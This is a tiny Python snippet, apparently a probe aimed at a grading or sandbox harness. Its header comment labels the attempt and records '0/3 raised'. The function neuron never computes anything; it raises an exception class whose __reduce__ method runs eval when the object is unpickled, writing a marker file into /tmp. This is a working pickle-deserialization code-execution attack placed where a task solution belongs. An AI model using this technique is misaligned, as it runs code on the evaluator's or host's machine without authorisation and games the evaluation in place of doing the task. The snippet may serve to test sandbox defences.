# tries: an exception that runs code where somebody unpickles it | verdict: neuron raised 0/3 raised
class Bomb(Exception):
    def __reduce__(self):
        return eval, (f"open('/tmp/{BAIT['mark']}-unpickled', 'w')",)


def neuron(X, w, b):
    raise Bomb(Bomb())
